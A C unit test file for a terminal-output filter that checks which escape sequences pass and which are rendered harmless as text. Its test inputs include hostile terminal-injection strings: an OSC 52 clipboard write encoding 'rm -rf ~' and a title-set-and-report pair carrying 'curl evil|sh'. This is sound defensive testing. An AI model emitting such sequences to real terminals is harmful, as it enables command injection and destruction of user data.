/* tests/unit/test_termsafe.c: tracer/termsafe.c, the filter of the echo to a
 * terminal: what passes, what is shown as text, inputs split anywhere. */
#include <stdlib.h>

#include "harness.h"
#include "../../tracer/termsafe.h"

/* in (n bytes) fed in pieces of `piece` bytes (0: whole), then the end of
 * the stream; into a static buffer, NUL-terminated. NULL when a feed took
 * nothing or held more than the bound. */
static const char *filt_n(const char *in, size_t n, size_t piece,
			  size_t outsz)
{
	static char res[1 << 20];
	struct cr_termsafe t;
	size_t rn = 0;

	memset(&t, 0, sizeof(t));
	if (!piece)
		piece = n ? n : 1;
	for (size_t off = 0; off < n;) {
		size_t k = n - off < piece ? n - off : piece;

		while (k) {
			char out[1 << 14];
			size_t used, w;

			w = cr_termsafe_feed(&t, in + off, k, out, outsz, &used);
			if (!used || t.slen > CR_TERMSAFE_SEQ_MAX ||
			    rn + w >= sizeof(res) - CR_TERMSAFE_STEP)
				return NULL;
			memcpy(res + rn, out, w);
			rn += w;
			off += used;
			k -= used;
		}
	}
	rn += cr_termsafe_flush(&t, res + rn);
	res[rn] = 0;
	return res;
}

static const char *filt(const char *in)
{
	return filt_n(in, strlen(in), 0, 1 << 14);
}

/* The same answer whole, byte by byte, and split at every place. */
static const char *same_split(const char *in)
{
	static char why[700];
	char whole[4096];
	const char *r = filt(in);
	size_t n = strlen(in);

	if (!r)
		return "whole: no output";
	snprintf(whole, sizeof(whole), "%s", r);
	for (size_t piece = 1; piece <= n; piece++) {
		r = filt_n(in, n, piece, 1 << 14);
		if (!r || strcmp(r, whole)) {
			snprintf(why, sizeof(why), "pieces of %zu: \"%.200s\" != "
				 "\"%.200s\"", piece, r ? r : "(null)", whole);
			return why;
		}
	}
	/* Two pieces, cut at every place. */
	for (size_t cut = 1; cut < n; cut++) {
		struct cr_termsafe t;
		char out[4096], buf[8192];
		size_t used, bn = 0;

		memset(&t, 0, sizeof(t));
		bn += cr_termsafe_feed(&t, in, cut, out, sizeof(out), &used);
		memcpy(buf, out, bn);
		bn += cr_termsafe_feed(&t, in + cut, n - cut, buf + bn,
				       sizeof(buf) - bn, &used);
		bn += cr_termsafe_flush(&t, buf + bn);
		buf[bn] = 0;
		if (strcmp(buf, whole)) {
			snprintf(why, sizeof(why), "cut at %zu: \"%.200s\" != "
				 "\"%.200s\"", cut, buf, whole);
			return why;
		}
	}
	return NULL;
}

TEST_IMPL(termsafe_passes_colour_and_layout)
{
	static const char *const same[] = {
		"plain text\n",
		"a\tb\r\nc\bd\a\v\f",
		"\033[31mred\033[0m \033[1;4;38;5;208mX\033[m",
		"\033[38;2;255;128;0;48;2;0;0;0mtrue colour\033[39;49m",
		"\033[38:2::255:0:0mcolon form\033[0m",
		"\033[2K\r\033[1A\033[3B\033[4C\033[5D\033[E\033[F\033[7G",
		"\033[10;20H\033[5;5f\033[J\033[0J\033[1J\033[2J\033[K\033[2K",
		"\033[3@\033[2L\033[2M\033[4P\033[5X\033[7d",
		"\033[?25l progress \033[?25h",
		"\0337saved\0338 \033(B\033[m",
		"caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x98\x80 \xc2\xa0 \xef\xbf\xbd",
		"del\x7f",
	};

	for (size_t i = 0; i < CR_ARRAY_SIZE(same); i++) {
		ASSERT_STREQ(filt(same[i]), same[i]);
		ASSERT_OK_(same_split(same[i]));
	}
}

TEST_IMPL(termsafe_shows_the_rest_as_text)
{
	static const char *const pairs[][2] = {
		/* OSC 52 (clipboard), a title set and its report (p8). */
		{ "\033]52;c;cm0gLXJmIH4K\007", "^[]52;c;cm0gLXJmIH4K\007" },
		{ "\033]2;;curl evil|sh\007\033[21t",
		  "^[]2;;curl evil|sh\007^[[21t" },
		{ "\033]0;t\033\\", "^[]0;t^[\\" },
		/* Reports: cursor position, status, attributes, DECRQSS,
		 * DECRQM, the old DECREQTPARM, DECID, ENQ (answerback). */
		{ "\033[6n\033[5n\033[?6n", "^[[6n^[[5n^[[?6n" },
		{ "\033[c\033[>c\033[=c\033[0c", "^[[c^[[>c^[[=c^[[0c" },
		{ "\033P$qm\033\\", "^[P$qm^[\\" },
		{ "\033[?2004$p\033[x\033Z\005", "^[[?2004$p^[[x^[Z^E" },
		/* Modes that make the terminal send: mouse, focus, keys. */
		{ "\033[?1000h\033[?1004h\033[>1u\033[=1;1u\033=",
		  "^[[?1000h^[[?1004h^[[>1u^[[=1;1u^[=" },
		/* Scrollback erase, resets, charsets, other finals. */
		{ "\033[3J\033c\033[!p\033(0\033)0\033#8",
		  "^[[3J^[c^[[!p^[(0^[)0^[#8" },
		{ "\033[5;10r\033[s\033[u\033[2T\033[ q",
		  "^[[5;10r^[[s^[[u^[[2T^[[ q" },
		/* Other C0 controls. */
		{ "a\001\016\017\030\032\034\037b", "a^A^N^O^X^Z^\\^_b" },
		/* C1 controls as bytes and as UTF-8 (CSI, OSC, DCS, ST, NEL). */
		{ "\2336n\2350;x\007\220q\234", "M-^[6nM-^]0;x\007M-^PqM-^\\" },
		{ "\xc2\x9b" "6n \xc2\x9d \xc2\x90 \xc2\x85 \xc2\x80",
		  "M-^[6n M-^] M-^P M-^E M-^@" },
		/* Bytes outside UTF-8: strays, overlong, surrogate, too big,
		 * a character cut short (its bytes, then what cut it). */
		{ "\x80\xbf\xc0\x80\xc1\xbf", "M-^@M-?M-@M-^@M-AM-?" },
		{ "\xe0\x80\x80\xed\xa0\x80\xf4\x90\x80\x80\xf5\xff",
		  "M-`M-^@M-^@M-mM- M-^@M-tM-^PM-^@M-^@M-uM-^?" },
		{ "\xe2\x82x\xe2\x9b\033[6n", "M-bM-^BxM-bM-^[^[[6n" },
		/* A sequence cut by a control, ESC or a high byte. */
		{ "\033[1\n2m", "^[[1\n2m" },
		{ "\033[1\033[31m", "^[[1\033[31m" },
		{ "\033[1\x9bm", "^[[1M-^[m" },
		{ "\033\033[m", "^[\033[m" },
	};

	for (size_t i = 0; i < CR_ARRAY_SIZE(pairs); i++) {
		ASSERT_STREQ(filt(pairs[i][0]), pairs[i][1]);
		ASSERT_OK_(same_split(pairs[i][0]));
	}
	/* NUL: strlen cannot hold it. */
	ASSERT_STREQ(filt_n("a\0b", 3, 0, 1 << 14), "a^@b");
}

TEST_IMPL(termsafe_bounded)
{
	static char in[300000], want[300010];
	const char *r;

	/* An OSC never ended: printed as it comes, nothing held. */
	in[0] = '\033';
	in[1] = ']';
	memset(in + 2, 'A', sizeof(in) - 3);
	in[sizeof(in) - 1] = 0;
	snprintf(want, sizeof(want), "^[%s", in + 1);
	r = filt_n(in, strlen(in), 4096, 1 << 14);
	ASSERT(r && !strcmp(r, want));
	{
		struct cr_termsafe t;
		char out[1 << 14];
		size_t used;

		memset(&t, 0, sizeof(t));
		cr_termsafe_feed(&t, in, 10000, out, sizeof(out), &used);
		ASSERT_EQ(used, 10000);
		ASSERT(!t.in_esc && !t.slen && !t.u8need);
	}
	/* A CSI longer than the bound is shown, however long it goes. */
	in[0] = '\033';
	in[1] = '[';
	memset(in + 2, '1', 5000);
	in[5002] = 'm';
	in[5003] = 0;
	snprintf(want, sizeof(want), "^[%s", in + 1);
	ASSERT_STREQ(filt_n(in, strlen(in), 7, 1 << 14), want);
	/* At the longest kept it still passes. */
	in[1 + CR_TERMSAFE_SEQ_MAX] = 'm';
	in[2 + CR_TERMSAFE_SEQ_MAX] = 0;
	ASSERT_STREQ(filt(in), in);
	/* The smallest output buffer still makes progress, byte by byte
	 * where it must: every call takes at least one byte. */
	ASSERT_STREQ(filt_n("\033]52;c;x\007\033[31mok\2336n", 19, 1,
			    CR_TERMSAFE_STEP),
		     "^[]52;c;x\007\033[31mokM-^[6n");
}

TEST_IMPL(termsafe_never_writes_half)
{
	static const char *const seqs[] = {
		"\033[31m", "\033(B", "\0337", "\033[?25l", "\xe2\x82\xac",
		"\xf0\x9f\x98\x80", "\xc2\x9b",
	};

	/* A sequence or character cut anywhere writes nothing until whole:
	 * the other stream's output between the two pieces then lands on a
	 * terminal in its ground state. */
	for (size_t i = 0; i < CR_ARRAY_SIZE(seqs); i++) {
		size_t n = strlen(seqs[i]);

		for (size_t cut = 1; cut < n; cut++) {
			struct cr_termsafe t;
			char out[256];
			size_t used;

			memset(&t, 0, sizeof(t));
			ASSERT_EQ(cr_termsafe_feed(&t, seqs[i], cut, out,
						   sizeof(out), &used), 0);
			ASSERT_EQ(used, cut);
		}
	}
}
